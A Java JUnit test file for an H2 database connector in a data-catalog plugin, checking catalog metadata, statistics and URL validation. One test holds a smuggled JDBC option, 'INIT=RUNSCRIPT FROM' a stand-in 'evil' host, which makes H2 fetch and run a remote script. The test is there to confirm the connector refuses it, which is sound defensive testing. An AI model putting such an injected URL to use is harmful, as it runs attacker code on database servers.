package io.custodian.plugins.h2;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.custodian.plugin.api.connector.AssetKind;
import io.custodian.plugin.api.connector.ColumnStatistics;
import io.custodian.plugin.api.connector.ConnectionTestResult;
import io.custodian.plugin.api.connector.ConnectorException;
import io.custodian.plugin.api.connector.ConnectorSession;
import io.custodian.plugin.api.connector.Container;
import io.custodian.plugin.api.connector.ContainerKind;
import io.custodian.plugin.api.connector.DataAsset;
import io.custodian.plugin.api.connector.Diagnosis;
import io.custodian.plugin.api.connector.ForeignKey;
import io.custodian.plugin.api.connector.TableStatistics;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a user sees of the shop database through the H2 connector. */
class H2ConnectorTest {

    @TempDir
    static Path folder;

    private final H2Connector connector = new H2Connector();

    @BeforeAll
    static void createShop() throws Exception {
        ShopSchema.create(folder);
    }

    @Test
    void qualifiedNamesFollowTheOpenLineageShape() {
        String url = ShopSchema.url(folder);
        try (ConnectorSession session = connector.open(ShopSchema.settings(url, ShopSchema.PASSWORD))) {
            assertEquals("h2:" + url.substring("jdbc:h2:".length()), session.namespace(), "the URL's database part, no options");
            assertEquals("SHOP.SALES.ORDERS", session.datasetName(List.of("SHOP", "SALES", "ORDERS")));
        }
    }

    @Test
    void catalogShowsTablesViewKeysAndComments() {
        try (ConnectorSession session = connector.open(ShopSchema.settings(ShopSchema.url(folder), ShopSchema.PASSWORD))) {
            Container database = session.containers(null).findFirst().orElseThrow();
            assertEquals(ContainerKind.DATABASE, database.kind());
            List<String> schemas = session.containers(database).map(Container::name).toList();
            assertEquals(List.of("PUBLIC", "SALES"), schemas.stream().sorted().toList(), "INFORMATION_SCHEMA is hidden");
            Map<String, DataAsset> assets;
            try (Stream<DataAsset> stream = session.assets(new Container(List.of(database.name(), "SALES"), ContainerKind.SCHEMA))) {
                assets = stream.collect(Collectors.toMap(DataAsset::name, Function.identity()));
            }
            assertEquals(AssetKind.VIEW, assets.get("CUSTOMER_REVENUE").kind());
            assertTrue(assets.get("CUSTOMER_REVENUE").viewDefinition().contains("SUM("), assets.get("CUSTOMER_REVENUE").viewDefinition());
            DataAsset payments = assets.get("PAYMENTS");
            assertEquals("Card payments, one row per attempt", payments.comment());
            assertEquals(List.of("ORDER_ID", "ATTEMPT"), payments.primaryKey());
            assertEquals(List.of(new ForeignKey("FK_PAYMENTS_ORDER", List.of("ORDER_ID"), List.of(database.name(), "SALES", "ORDERS"),
                    List.of("ID"))), payments.foreignKeys());
            assertEquals(200, payments.rowCount());
            assertEquals("Primary contact address", assets.get("CUSTOMERS").columns().get(1).comment());

            TableStatistics stats = session.statistics(assets.get("CUSTOMERS"), List.of("EMAIL", "COUNTRY", "CREATED_AT"));
            assertEquals(50, stats.rowCount());
            Map<String, ColumnStatistics> byName = stats.columns().stream()
                    .collect(Collectors.toMap(ColumnStatistics::column, Function.identity()));
            assertEquals(0.1, byName.get("EMAIL").nullShare(), 1e-9);
            assertEquals(45L, byName.get("EMAIL").distinctCount());
            assertEquals(2L, byName.get("COUNTRY").distinctCount());
            assertEquals("DE", byName.get("COUNTRY").min());
            assertEquals("FR", byName.get("COUNTRY").max());
            assertTrue(byName.get("CREATED_AT").min().startsWith("2024-01-01 01:00"), byName.get("CREATED_AT").min());
        }
    }

    @Test
    void urlFormsOtherThanFileMemTcpAreInvalid() {
        for (String url : List.of("jdbc:h2:~/shop", "jdbc:h2:zip:/tmp/x.zip!/shop", "jdbc:postgresql://x/y", "jdbc:h2:ssl://h/db")) {
            ConnectionTestResult result = connector.testConnection(ShopSchema.settings(url, "pw"));
            assertEquals(Diagnosis.INVALID_SETTINGS, result.diagnosis(), url + ": " + result.message());
        }
    }

    @Test
    void urlOptionsThatRunCodeOrCarryCredentialsAreRefused() {
        String url = ShopSchema.url(folder) + ";INIT=RUNSCRIPT FROM 'http://evil/x.sql'";
        ConnectorException error = assertThrows(ConnectorException.class, () -> connector.open(ShopSchema.settings(url, "pw")));
        assertEquals(Diagnosis.INVALID_SETTINGS, error.diagnosis());
        assertTrue(error.getMessage().contains("INIT"), error.getMessage());
    }

    @Test
    void aMistypedPathIsMissingNotCreated() {
        Path missing = folder.resolve("typo");
        ConnectionTestResult result = connector.testConnection(ShopSchema.settings("jdbc:h2:file:" + missing.toAbsolutePath(), "pw"));
        assertEquals(Diagnosis.DATABASE_MISSING, result.diagnosis(), result.message());
        assertFalse(missing.resolveSibling("typo.mv.db").toFile().exists(), "testing the settings created a database file");
    }
}
